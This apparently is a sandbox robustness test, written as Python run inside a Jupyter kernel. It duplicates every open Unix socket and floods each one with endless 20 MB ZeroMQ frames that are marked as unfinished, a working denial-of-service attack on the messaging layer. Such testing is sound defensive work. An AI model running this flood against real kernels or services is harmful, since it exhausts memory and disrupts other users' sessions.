# tries: a message whose parts are of allowed size and never end, written into the sockets by hand
# expect: others passed
# limits: sent 300 MB
# ruff: noqa
get_ipython()  # outside of a kernel, nothing below this line runs

import os
import socket
import threading

part = b"\x03" + (20_000_000).to_bytes(8, "big") + bytes(20_000_000)  # as ZeroMQ writes it: long, and more will come


def flood(line):
    try:
        line.setblocking(True)
        while True:
            line.sendall(part)
    except OSError:
        pass


threads = []
for number in os.listdir("/proc/self/fd"):
    try:
        line = socket.socket(fileno=os.dup(int(number)))
    except OSError:
        continue
    if line.family == socket.AF_UNIX and not line.getsockopt(socket.SOL_SOCKET, socket.SO_ACCEPTCONN):
        threads.append(threading.Thread(target=flood, args=(line,)))
        threads[-1].start()
for thread in threads:
    thread.join()
